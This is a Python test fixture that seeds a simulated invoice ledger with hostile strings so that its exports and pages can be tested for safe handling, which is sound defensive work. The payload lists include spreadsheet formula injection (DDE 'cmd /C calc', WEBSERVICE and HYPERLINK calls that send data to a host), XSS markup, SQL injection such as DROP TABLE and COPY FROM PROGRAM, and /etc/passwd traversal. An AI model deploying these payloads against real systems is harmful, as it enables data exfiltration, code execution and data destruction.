"""Texts that are meant to do harm, and a ledger that has them in every text column of every table."""

import pandas as pd

from ledger.frames import Tables
from ledger.simulator import simulate
from ledger.tables import LONGEST_TEXT, TABLES

MARK = "data-owned"  # what a script that ran leaves at the page's root
RUN = f"document.documentElement.setAttribute('{MARK}','1')"

FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "﹦1+1", "=HYPERLINK(\"http://{host}/h?\"&A1)", "=WEBSERVICE(\"http://{host}/w\")",
    "=IMPORTXML(\"http://{host}/x\";\"//a\")", "x;=1+1", 'x";"=1+1', "x\n=1+1", "x\r=1+1", "x\t=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u202e=1+1", "'=1+1", '"=1+1"', "%0A=1+1",
]  # fmt: skip
MARKUP = [
    f"<script>{RUN};fetch('http://{{host}}/script')</script>",
    f'"><img src="http://{{host}}/img" onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f"<svg onload=\"{RUN}\"><image href='http://{{host}}/svg'/></svg>",
    "</style><style>@import 'http://{host}/css';*{background:url(http://{host}/bg)}</style>",
    f'<a href="javascript:{RUN}" id=x>x</a><iframe src="javascript:{RUN}"></iframe>',
    "<meta http-equiv=refresh content='0;url=http://{host}/meta'>",
    "<link rel=stylesheet href='http://{host}/link'><base href='http://{host}/'>",
    "<object data='http://{host}/object'></object><embed src='http://{host}/embed'>",
    f"--><script>{RUN}</script><!--",
    f"</title></textarea></script><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "{{{{7*7}}}}{{% include '/etc/passwd' %}}${{7*7}}#{{7*7}}<%= 7*7 %>$PARAMETER $$ $styling",
    "<form action='http://{host}/form'><input name=x></form><video src='http://{host}/video'>",
]
INJECTIONS = [
    "'; DROP TABLE worklist; --", "\"; DROP TABLE runs; --", "1 OR 1=1", "x' UNION SELECT * FROM runs --",
    "\\'; DELETE FROM runs; --", "%s %d {{0}} :name ?", "COPY runs FROM PROGRAM 'id'", "a\\.", "\\N", "$$x$$",
]  # fmt: skip
TERMINAL = ["\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x7f", "a\vb\fc"]
PATHS = ["../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\con", "file:///etc/passwd", "a/b", "~root", "|id"]
UNICODE = [
    "\u202egnp.exe",
    "\u2066x\u2069",
    "a\u200bb",
    "z" + "\u0301" * 100,
    "İıſ",
    "\U0001f4a3",
    "\ud7ff\ufffd\uffff",
]
QUOTES = ['"', '""', '","', '"\n"', "a,b;c\td", "'", "`id`", "\\", '\\"', "x\r\ny", "z" * LONGEST_TEXT]
REFUSED = ["x\x00y", "z" * (LONGEST_TEXT + 1)]

CUSTOMERS, DAYS, SEED = 80, 540, 1


def corpus(host: str) -> list[str]:
    """All texts that a ledger may hold; `host` is who would be called by a page or a sheet that runs them."""
    return [
        text.replace("{{", "{").replace("}}", "}").replace("{host}", host)
        for text in (*FORMULAS, *MARKUP, *INJECTIONS, *TERMINAL, *PATHS, *UNICODE, *QUOTES)
    ]


def hostile_ledger(host: str) -> Tables:
    """A simulated ledger whose ids and other texts are all hostile; ids end in what distinguishes them.

    Currencies are hostile in one row of fifty, since such an invoice is refused, and in the first rows whose id is a
    script: the ids of refused rows are the examples of the pages.
    """
    texts = corpus(host)
    tables = simulate(CUSTOMERS, DAYS, SEED).tables
    names: dict[str, str] = {}

    def renamed(name: object) -> object:
        if pd.isna(name):
            return name
        return names.setdefault(str(name), f"{texts[len(names) % len(texts)][:500]}·{len(names)}")

    hostile: Tables = {}
    for table, frame in tables.items():
        changed = frame.reset_index(drop=True)
        for place, column in enumerate(TABLES[table].columns):
            if column.kind != "text" or table == "fx_rates":
                continue
            if column.name.endswith("_id"):
                values = changed[column.name].map(renamed)
            else:
                values = pd.Series([texts[(row * 7 + place) % len(texts)] for row in changed.index], dtype="str")
                if column.name == "currency":
                    scripts = changed.iloc[:, 0].str.contains("<script").to_numpy() & (changed.index < 200)
                    values = values.where((changed.index % 50 == 7) | scripts, changed[column.name])
            changed[column.name] = values.astype("str")
        hostile[table] = changed
    return _with_refused_rows(hostile)


def _with_refused_rows(tables: Tables) -> Tables:
    """The same with rows that reading refuses, and with invoices of hostile ids that validation refuses."""
    reasons, invoices = tables["disputes"]["reason"].copy(), tables["invoices"].copy()
    reasons.iloc[: len(REFUSED)] = REFUSED
    wrong = invoices["invoice_id"].str.contains("<|=").to_numpy().nonzero()[0][:40]
    invoices.loc[wrong, "due_on"] = invoices.loc[wrong, "issued_on"] - pd.Timedelta(days=9)
    return tables | {"disputes": tables["disputes"].assign(reason=reasons), "invoices": invoices}
